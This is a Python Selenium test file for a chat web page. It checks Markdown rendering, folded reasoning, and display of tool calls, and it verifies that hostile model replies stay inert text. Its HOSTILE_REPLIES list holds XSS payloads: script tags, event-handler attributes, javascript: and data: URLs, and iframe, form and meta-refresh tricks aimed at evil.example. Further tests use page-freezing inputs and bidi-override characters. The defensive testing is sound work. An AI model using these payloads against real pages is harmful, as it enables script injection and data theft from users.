"""Goal: the page shows replies as Markdown, thoughts, calls and JSON as such; no reply runs, loads
or changes anything, and none stops the page.

Method: Debian's Chromium, headless, on the real server. The test makes the replies, as the events
        of a stream.
"""

import pytest
from selenium.webdriver.common.keys import Keys

from browser import new_page

HOSTILE = "<img src=x onerror=\"document.title='taken over'\">"


@pytest.fixture(scope="module")
def opened(server):
    with new_page(server.url) as page:
        yield page


@pytest.fixture
def page(opened):
    """The page as it is after a reload, in one browser for all tests."""
    opened.console()  # What was said before is none of this test's.
    opened.driver.get(opened.url)
    opened.driver.refresh()
    opened.wait_for_text("#model", "smollm2")
    return opened


def shown(page, *deltas):
    """Shows an answer that is made of these."""
    page.fake_replies(*deltas)
    page.ask("Show it.")
    page.wait_for_answer(1)


# No reply may load, run or change anything.
HOSTILE_REPLIES = [
    "<script>document.title = 'taken over'</script>",
    HOSTILE,
    "`" + HOSTILE + "` and *" + HOSTILE + "*",
    "```html\n" + HOSTILE + "\n```",
    "[a](javascript:document.title='taken') [b](JaVaScRiPt&#58;x) [c](java\tscript:x)",
    "<javascript:x> [a]: javascript:x\n\n[a] ![i](javascript:x)",
    "[d](data:text/html,<script>x</script>) ![d](data:image/svg+xml,<svg/onload=x>)",
    "[f](file:///etc/passwd) [r](/attndb/v1/contexts) [p](//evil.example/x) [v](vbscript:x)",
    "![i](https://evil.example/x.png) <iframe src=https://evil.example></iframe>",
    "<style>body { display: none }</style><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=key><button id=send>Send</button></form>",
    "[x](https://good.example \"title' onmouseover='document.title=1\")",
    "| <img src=x onerror=x> | [l](javascript:x) |\n|-|-|\n| <svg onload=x> | `<b>` |",
    "- <details open ontoggle=x>\n  > <math><mi xlink:href=javascript:x>",
    "<!-- --><base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
]


class TestMarkdown:
    def test_is_shown_as_what_it_means(self, page):
        shown(page, {"content": "# Fish\n\nThe **cod** and the *ling*:\n\n- one\n"},
              {"content": "- two\n\n3. three\n\n```python\nprint('<b>')\n```\n\n| a | b |\n|---|"},
              {"content": "--:|\n| 1 | 2 |\n\n> said\n\n[more](https://example.org/a?b=1&c=2)"})
        body = "#log .assistant > .text "
        assert page.text(body + "h4") == "Fish"
        assert page.text(body + "strong") == "cod"
        assert [item.text for item in page.all(body + "ul li")] == ["one", "two"]
        assert page.find(body + "ol").get_property("start") == 3
        assert page.text(body + "pre") == "print('<b>')"
        assert page.text(body + ".code-head span") == "python"
        assert page.find(body + "td.align-right").text == "2"
        assert page.text(body + "blockquote") == "said"
        link = page.find(body + "a")
        assert link.get_property("href") == "https://example.org/a?b=1&c=2"
        assert link.get_property("rel") == "noopener noreferrer"
        assert page.console() == []

    @pytest.mark.parametrize("reply", HOSTILE_REPLIES)
    def test_a_hostile_reply_is_text(self, page, server, reply):
        shown(page, {"content": reply})
        body = "#log .assistant > .text "
        tags = page.js("return [...document.querySelectorAll(arguments[0])]"
                       ".map((element) => element.localName)", body + "*")
        assert set(tags) <= {"p", "em", "code", "div", "pre", "span", "button", "a", "table",
                             "thead", "tbody", "tr", "th", "td", "ul", "li", "blockquote"}
        assert all(button.text == "Copy" for button in page.all(body + "button"))
        for link in page.all(body + "a"):
            assert link.get_property("href").startswith("https://")
        attributes = page.js("return [...document.querySelectorAll(arguments[0])]"
                             ".flatMap((element) => element.getAttributeNames())", body + "*")
        assert set(attributes) <= {"class", "dir", "href", "rel", "target", "type"}
        assert page.driver.title == "attndb"
        loaded = page.js("return performance.getEntriesByType('resource').map(e => e.name)")
        assert all(name.startswith(server.url) for name in loaded), loaded
        assert page.console() == []

    @pytest.mark.parametrize("reply", [
        ">" * 10000 + " x", "> " * 10000 + "x", "a" * 1000000, "*a " * 100000, "[" * 300000,
        "\n".join(" " * i + "- x" for i in range(800)), " " * 300000 + "x"],
        ids=["quotes", "spaced-quotes", "line", "stars", "brackets", "lists", "spaces"])
    def test_the_page_stays_alive(self, page, reply):
        shown(page, {"content": reply})
        length = page.js("return document.querySelector('#log .assistant > .text')"
                         ".textContent.length")
        assert length >= len(reply.replace(" ", "").replace(">", "").replace("-", ""))
        page.fake_replies({"content": "**Still** here."})
        page.ask("Are you?")
        assert page.wait_for_answer(2)[0] == "Still here."
        assert page.all("#log .assistant:last-child strong")

    def test_unseen_characters_do_no_harm(self, page):
        shown(page, {"content": "zero\0byte and \u202eturned\u202c \u2066x\n\nnext one"})
        text = page.text("#log .assistant > .text")
        assert "zero\ufffdbyte" in text
        assert page.js("return [...document.querySelectorAll('#log .assistant > .text > p')]"
                       ".map((p) => getComputedStyle(p).unicodeBidi)") == ["isolate"] * 2

    def test_thoughts_are_folded_calls_and_json_are_shown_as_such(self, page):
        page.fake_replies(
            {"reasoning_content": "I <b>have</b> to "}, {"reasoning_content": "look."},
            {"content": '{"city": '}, {"content": '"Oslo", "list": [1]}'},
            {"tool_calls": [{"index": 0, "id": "1", "function": {"name": "wea"}}]},
            {"tool_calls": [{"index": 0, "function": {"name": "ther", "arguments": '{"a":'}}]},
            {"tool_calls": [{"index": 0, "function": {"arguments": '"<i>"}'}}]},
            {"tool_calls": [{"index": 1, "function": {"name": "time", "arguments": "{"}}]})
        page.ask("Look.")
        facts = page.wait_for_answer(1)[1]
        assert "31 of 40 prompt tokens were reused" in facts
        thoughts = page.find("#log .reasoning .text")
        assert not thoughts.is_displayed()
        page.tab_to("#log .reasoning summary", back=True)
        page.press(Keys.ENTER)
        assert thoughts.text == "I <b>have</b> to look."
        assert page.text("#log .assistant > .text pre") == (
            '{\n  "city": "Oslo",\n  "list": [\n    1\n  ]\n}')
        assert [call.text for call in page.all("#log .call p")] == ["Calls weather", "Calls time"]
        assert page.text("#log .call pre") == '{\n  "a": "<i>"\n}'
        assert page.text("#log .call:nth-child(2) pre") == "{"
